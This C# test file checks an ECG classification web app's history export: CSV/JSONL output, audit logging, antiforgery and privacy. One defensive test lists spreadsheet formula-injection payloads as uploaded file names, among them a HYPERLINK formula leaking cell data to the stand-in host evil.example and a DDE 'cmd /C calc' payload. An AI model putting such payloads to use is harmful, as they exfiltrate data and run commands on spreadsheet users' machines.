using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text.Json;
using ArrhythmiaWeb.Data;
using ArrhythmiaWeb.Ecg;
using ArrhythmiaWeb.Tests.Hosting;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.EntityFrameworkCore;

namespace ArrhythmiaWeb.Tests.History;

public sealed class HistoryExportTests
{
    private const int Many = 200_000;

    private static CancellationToken Cancellation => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("csv", "text/csv")]
    [InlineData("jsonl", "application/jsonl")]
    public async Task Admin_exports_what_the_filter_leaves_and_the_audit_log_tells_how_much(string format, string type)
    {
        await using var application = new Application { Classifier = Classifiers.Answering() };
        await ManyPredictions.FillAsync(application, 2000);
        var expected = (await ManyPredictions.AllAsync(application)).Where(row => row.ReviewState == ReviewState.Corrected).OrderBy(row => row.CreatedAt).ThenBy(row => row.Number).ToList();
        await ReviewAsync(application, expected[3].Number);
        var admin = await application.SignInAsAdminAsync();

        var answer = await ExportAsync(admin, format, ("state", "Corrected"));
        var text = await answer.Content.ReadAsStringAsync(Cancellation);

        Assert.Equal(type, answer.Content.Headers.ContentType?.MediaType);
        Assert.Equal($"history-2026-03-14.{format}", answer.Content.Headers.ContentDisposition?.FileName);
        Assert.Equal("attachment", answer.Content.Headers.ContentDisposition?.DispositionType);
        var rows = format == "csv" ? Csv(text) : [.. text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(Flat)];
        Assert.Equal(expected.Select(row => row.Id.ToString()), rows.Select(row => row["id"]));
        var (row, original) = (rows[3], expected[3]);
        Assert.Equal(original.CreatedAt.UtcDateTime, DateTime.Parse(row["created_at"]!, CultureInfo.InvariantCulture, DateTimeStyles.RoundtripKind));
        Assert.EndsWith("Z", row["created_at"], StringComparison.Ordinal);
        Assert.Equal(original.ClassCode, row["class"]);
        Assert.Equal("0.65", row[format == "csv" ? "probability_N" : "probabilities.N"]);
        Assert.Equal("0.05", row[format == "csv" ? "probability_!" : "probabilities.!"]);
        Assert.Equal("corrected", row["review_state"]);
        Assert.Equal("1", row["reviews"]);
        Assert.Equal(("V", "anna", "anna@clinic.example"), (row["verdict_class"], row["verdict_reader"], row["verdict_reader_account"]));
        Assert.Equal(format == "csv" ? "'=broad" : "=broad", row["verdict_comment"]);
        Assert.Equal("false", row["verdict_blind"]?.ToLowerInvariant());
        Assert.Equal(application.Clock.GetUtcNow().UtcDateTime, DateTime.Parse(row["verdict_at"]!, CultureInfo.InvariantCulture, DateTimeStyles.RoundtripKind));
        Assert.Equal("Fainted twice.", row["note"]);
        Assert.True(string.IsNullOrEmpty(rows[0]["verdict_class"]), "One that nobody judged has no verdict.");
        Assert.Equal(original.Owner?.DisplayName ?? "", row["clinician"] ?? "");
        Assert.Equal(original.Patient?.Reference ?? "", row["patient_reference"] ?? "");
        Assert.Equal((original.ModelName, original.ModelVersion, original.ModelSha256), (row["model_name"], row["model_version"], row["model_sha256"]));
        Assert.Equal((original.OriginalFileName, original.Sha256), (row["file_name"], row["sha256"]));
        Assert.Contains(rows, each => each["reasons"] is { } reasons && reasons.Contains("Too low a probability.", StringComparison.Ordinal));
        Assert.Equal($"history, {format}, {expected.Count} rows, by review state", (await LastExportAsync(application)).Details);
    }

    [Fact]
    public async Task Cells_that_a_spreadsheet_would_take_for_formulas_are_made_safe()
    {
        // What is uploaded, and what a spreadsheet gets instead.
        (string Name, string Written)[] hostile =
        [
            ("=HYPERLINK(\"http://evil.example/\"&A1,\"click\").png", "'=HYPERLINK(\"http://evil.example/\"&A1,\"click\").png"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("＝1+1", "'＝1+1"), ("＠x", "'＠x"), ("\t=1", "'\t'=1"), ("\tx", "'\tx"), ("a\",=1+1", "a\",'=1+1"), ("=1;2,3", "'=1;2,3"),
            ("beat;=1+1", "beat;'=1+1"), ("beat; \"=1+1", "beat; \"'=1+1"), ("beat\t@SUM(1)", "beat\t'@SUM(1)"), ("beat|-1", "beat|'-1"), ("beat\r+1", "beat\r'+1"), ("beat;\u200B=1", "beat;\u200B'=1"),
            ("it's-harmless.png", "it's-harmless.png"), ("lead II - 2+3=5; V1.png", "lead II - 2+3=5; V1.png"),
        ];
        await using var application = new Application { Classifier = Classifiers.Answering() };
        await ManyPredictions.FillAsync(application, hostile.Length);
        await using (var db = application.OpenDatabase())
        {
            for (var number = 1; number <= hostile.Length; number++)
            {
                await db.Database.ExecuteSqlAsync($"UPDATE \"Predictions\" SET \"OriginalFileName\" = {hostile[number - 1].Name} WHERE \"Number\" = {number}", Cancellation);
            }
        }

        var answer = await ExportAsync(await application.SignInAsAdminAsync(), "csv");
        var bytes = await answer.Content.ReadAsByteArrayAsync(Cancellation);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var names = Csv(System.Text.Encoding.UTF8.GetString(bytes)).Select(row => row["file_name"]!).ToList();
        Assert.Equal(hostile.Select(name => name.Written), names);
    }

    [Fact]
    public async Task Download_that_is_broken_off_ends_the_query_and_is_recorded()
    {
        await using var application = new Application { Classifier = Classifiers.Answering() };
        await ManyPredictions.FillAsync(application, Many / 4);
        var admin = await application.SignInAsAdminAsync();

        using (var answer = await SendAsync(admin, "jsonl"))
        {
            await using var body = await answer.Content.ReadAsStreamAsync(Cancellation);
            await body.ReadExactlyAsync(new byte[100_000], Cancellation);
        }

        var deadline = DateTime.UtcNow.AddSeconds(20);
        AuditEntry? entry;
        while ((entry = await FindExportAsync(application))?.Details?.Contains(" rows", StringComparison.Ordinal) != true && DateTime.UtcNow < deadline)
        {
            await Task.Delay(50, Cancellation);
        }

        var rows = int.Parse(entry!.Details!.Split(' ')[2], CultureInfo.InvariantCulture);
        Assert.Contains("broken off", entry.Details, StringComparison.Ordinal);
        Assert.InRange(rows, 100, (Many / 4) - 1);
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("jsonl")]
    public async Task Nothing_is_exported_where_the_audit_log_cannot_be_written(string format)
    {
        var failure = new DatabaseFailure(FailingStep.Commit);
        await using var application = new Application { Classifier = Classifiers.Answering(), Interceptor = failure };
        await ManyPredictions.FillAsync(application, 200);
        var admin = await application.SignInAsAdminAsync();
        var form = await FormAsync(admin, ("format", format));
        failure.Remaining = 1;

        var answer = await admin.PostAsync("/history/export", form);

        Assert.Equal(HttpStatusCode.InternalServerError, answer.StatusCode);
        Assert.DoesNotContain("Ward7", await answer.Content.ReadAsStringAsync(Cancellation), StringComparison.OrdinalIgnoreCase);
        Assert.Null(await FindExportAsync(application));
    }

    [Fact]
    public async Task Neither_reference_nor_free_text_reaches_the_audit_log_or_an_address()
    {
        await using var application = new Application { Classifier = Classifiers.Answering() };
        await ManyPredictions.FillAsync(application, 200);
        var admin = await application.SignInAsAdminAsync();
        var view = (await SearchAsync(admin, ("patient", "Ward7-07"), ("text", "beat-0000"))).Headers.Location!.ToString();

        var answer = await ExportAsync(admin, "jsonl", ("search", view[(view.IndexOf("search=", StringComparison.Ordinal) + 7)..]));

        var rows = (await answer.Content.ReadAsStringAsync(Cancellation)).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(Flat).ToList();
        Assert.NotEmpty(rows);
        Assert.All(rows, row => Assert.Equal("Ward7-07", row["patient_reference"]));
        Assert.DoesNotContain("Ward7", view, StringComparison.OrdinalIgnoreCase);
        Assert.Equal($"history, jsonl, {rows.Count} rows, by patient reference, free text", (await LastExportAsync(application)).Details);
    }

    [Fact]
    public async Task Export_with_a_search_that_is_no_longer_kept_is_refused_and_not_wider()
    {
        await using var application = new Application { Classifier = Classifiers.Answering() };

        var answer = await ExportAsync(await application.SignInAsAdminAsync(), "csv", ("search", Guid.NewGuid().ToString()));

        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
    }

    [Fact]
    public async Task Export_without_an_antiforgery_token_is_refused()
    {
        await using var application = new Application { Classifier = Classifiers.Answering() };

        var answer = await (await application.SignInAsAdminAsync()).PostAsync("/history/export", new FormUrlEncodedContent([new("format", "csv")]));

        Assert.Equal(HttpStatusCode.BadRequest, answer.StatusCode);
        await using var db = application.OpenDatabase();
        Assert.False(await db.AuditEntries.AnyAsync(entry => entry.Event == nameof(AuditEvent.Exported), Cancellation));
    }

    internal static async Task<HttpResponseMessage> SearchAsync(Visitor admin, params (string Name, string Value)[] fields) =>
        await admin.PostAsync("/history/search", await FormAsync(admin, fields));

    private static async Task<HttpResponseMessage> ExportAsync(Visitor admin, string format, params (string Name, string Value)[] fields) =>
        await admin.PostAsync("/history/export", await FormAsync(admin, [("format", format), .. fields]));

    private static async Task<HttpResponseMessage> SendAsync(Visitor admin, string format)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, "/history/export") { Content = await FormAsync(admin, ("format", format)) };
        return await admin.Client.SendAsync(request, HttpCompletionOption.ResponseHeadersRead, Cancellation);
    }

    private static async Task<FormUrlEncodedContent> FormAsync(Visitor admin, params (string Name, string Value)[] fields) =>
        new([new("__RequestVerificationToken", await admin.TokenAsync("/history")), .. fields.Select(field => KeyValuePair.Create(field.Name, field.Value))]);

    private static List<Dictionary<string, string?>> Csv(string text)
    {
        using var reader = new CsvReader(new StringReader(text.TrimStart('\uFEFF')), new CsvConfiguration(CultureInfo.InvariantCulture));
        Assert.True(reader.Read() && reader.ReadHeader());
        var columns = reader.HeaderRecord!;
        Assert.Equal(LabelSet.EightClasses.Classes.Select(beat => $"probability_{beat.Code}"), columns.Where(column => column.StartsWith("probability_", StringComparison.Ordinal)));
        var rows = new List<Dictionary<string, string?>>();
        while (reader.Read())
        {
            rows.Add(columns.ToDictionary(column => column, reader.GetField));
        }

        return rows;
    }

    private static Dictionary<string, string?> Flat(string json)
    {
        using var document = JsonDocument.Parse(json);
        return document.RootElement.EnumerateObject()
            .SelectMany(part => part.Value.ValueKind == JsonValueKind.Object
                ? part.Value.EnumerateObject().Select(inner => (Name: $"{part.Name}.{inner.Name}", inner.Value))
                : [(part.Name, part.Value)])
            .ToDictionary(part => part.Name, part => part.Value.ValueKind == JsonValueKind.Null ? null : part.Value.ToString());
    }

    private static async Task ReviewAsync(Application application, long number)
    {
        await using var db = application.OpenDatabase();
        db.Reviews.Add(new Review
        {
            PredictionNumber = number,
            ReviewerId = await application.PersonIdAsync("anna"),
            CreatedAt = application.Clock.GetUtcNow(),
            Verdict = Verdict.Correct,
            ClassCode = "V",
            Comment = "=broad",
        });
        await db.Database.ExecuteSqlAsync($"UPDATE \"Predictions\" SET \"Note\" = 'Fainted twice.' WHERE \"Number\" = {number}", Cancellation);
        await db.SaveChangesAsync(Cancellation);
    }

    private static async Task<AuditEntry> LastExportAsync(Application application) => (await FindExportAsync(application))!;

    private static async Task<AuditEntry?> FindExportAsync(Application application)
    {
        await using var db = application.OpenDatabase();
        return await db.AuditEntries.AsNoTracking().Where(entry => entry.Event == nameof(AuditEvent.Exported)).OrderByDescending(entry => entry.Sequence).FirstOrDefaultAsync(Cancellation);
    }
}
